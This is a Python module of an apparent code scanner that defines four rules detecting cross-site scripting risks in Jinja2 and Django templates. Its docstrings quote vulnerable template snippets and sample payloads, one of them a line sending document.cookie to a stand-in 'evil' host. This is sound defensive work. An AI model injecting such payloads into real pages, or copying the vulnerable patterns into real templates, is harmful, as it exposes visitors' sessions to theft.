"""CW410–CW413: Jinja2 and Django templates that print values without (enough) escaping.

The checks live in :mod:`codeward.checks.templates`; these functions register the rules and
their documentation. Findings are reported in the template; when a view passes request or
stored data to the printed value, the view's render call is the related information.
"""

from __future__ import annotations

from collections.abc import Iterator

from ..context import RuleContext
from ..model import Applicability, Confidence, Finding, Severity
from ..registry import rule
from ..templates import report

KINDS = ("template",)


@rule("CW410", "template-output-not-escaped", cwe=(79,), severity=Severity.ERROR, confidence=Confidence.MEDIUM,
      kinds=KINDS, fix_title="Remove |safe", fix_applicability=Applicability.UNSAFE)
def template_output_not_escaped(ctx: RuleContext) -> Iterator[Finding]:
    """A template prints a value with escaping switched off.

    What it does:
        Flags `{{ value|safe }}` (and Django's `|safeseq`), values passed through a custom
        filter that returns its input wrapped in `Markup`/`mark_safe` without escaping it,
        and user data printed inside an autoescape-off block. High confidence when a view
        passes request data to the value, medium for stored data or a value no view is
        known to pass, low when every view passes values without user data. A literal
        marked safe is the author's own markup and never flagged.

    Why is this bad:
        Escaping is what stops `<script>` in a comment or a profile field from running in
        every visitor's browser (stored or reflected XSS). `|safe` tells the engine the value
        is trusted HTML.

    Example:
        ```jinja
        <div class="bio">{{ user.bio|safe }}</div>
        ```

    Use instead:
        ```jinja
        <div class="bio">{{ user.bio }}</div>
        ```
        or sanitise the HTML in the view with an allowlist (`bleach.clean`, `nh3.clean`).

    Fix safety:
        Removes `|safe`. Safe when the value is user data (plain text, which escaping displays
        as typed); unsafe otherwise, since a value that really is HTML would show its tags.
    """
    yield from report.unescaped_output(ctx)


@rule("CW411", "template-autoescape-off", cwe=(79, 116), severity=Severity.WARNING, confidence=Confidence.MEDIUM,
      kinds=KINDS, fix_title="Turn autoescaping back on", fix_applicability=Applicability.UNSAFE)
def template_autoescape_off(ctx: RuleContext) -> Iterator[Finding]:
    """A template block switches autoescaping off.

    What it does:
        Flags `{% autoescape false %}` (Jinja2) and `{% autoescape off %}` (Django). High
        confidence when a value printed in the block comes from request data a view passes.

    Why is this bad:
        Every value printed in the block is inserted as raw HTML: one user-controlled value
        in it is enough for cross-site scripting.

    Example:
        ```django
        {% autoescape off %}{{ comment.text }}{% endautoescape %}
        ```

    Use instead:
        ```django
        {% autoescape on %}{{ comment.text }}{% endautoescape %}
        ```

    Fix safety:
        Unsafe: values meant as HTML (rendered by the app itself) would show their tags.
    """
    yield from report.autoescape_off(ctx)


@rule("CW412", "template-url-from-user", cwe=(79, 83), severity=Severity.ERROR, kinds=KINDS,
      fix_title="Allow only http(s) and relative URLs", fix_applicability=Applicability.UNSAFE)
def template_url_from_user(ctx: RuleContext) -> Iterator[Finding]:
    """User data is the whole URL of an `href`, `src` or `action` attribute.

    What it does:
        Flags a printed value that starts the value of a URL attribute (`href`, `src`,
        `action`, `formaction`...) when a view passes request or stored data to it.

    Why is this bad:
        Escaping keeps the value inside the attribute, but `javascript:alert(document.cookie)`
        contains nothing to escape: a click runs it with the visitor's session.

    Example:
        ```jinja
        <a href="{{ website }}">homepage</a>
        ```

    Use instead:
        ```jinja
        <a href="{{ website if website.lower().startswith(("http://", "https://")) else "#" }}">homepage</a>
        ```
        or validate the scheme when the URL is saved.

    Fix safety:
        Unsafe: URLs with other schemes (`mailto:`, relative paths without a leading `/`)
        become `#`. Offered for Jinja2 only; Django's template language cannot express the
        check inline (validate the URL in the view or the form instead).
    """
    yield from report.url_from_user(ctx)


@rule("CW413", "template-value-in-script", cwe=(79,), severity=Severity.ERROR, kinds=KINDS,
      fix_title="Encode the value with |tojson", fix_applicability=Applicability.UNSAFE)
def template_value_in_script(ctx: RuleContext) -> Iterator[Finding]:
    """A value is printed into a `<script>` block or an event handler without JSON encoding.

    What it does:
        Flags values printed inside `<script>` elements run as JavaScript, and inside
        `on*` attributes, unless encoded with `|tojson` (Jinja2), `json_script` or
        `|escapejs` (Django), or a number filter. High confidence for request data printed
        as code (unquoted, in a template literal, marked safe, or in an event handler),
        medium inside a quoted string; low for an unquoted value no view is known to pass.

    Why is this bad:
        HTML escaping is the wrong encoding for JavaScript: `1; fetch('//evil/'+document.cookie)`
        needs no characters HTML escaping changes, and event-handler attributes are
        entity-decoded before they run.

    Example:
        ```jinja
        <script>var query = '{{ q }}'; var page = {{ page }};</script>
        ```

    Use instead:
        ```jinja
        <script>var query = {{ q|tojson }}; var page = {{ page|tojson }};</script>
        ```

    Fix safety:
        Jinja2: `{{ value|tojson }}` replaces the value and its quotes (unsafe: a value that
        was meant to be inserted as code becomes a string). Django: `|escapejs` inside a
        quoted string (safe: the string holds the same text); no inline fix for code.
    """
    yield from report.value_in_script(ctx)
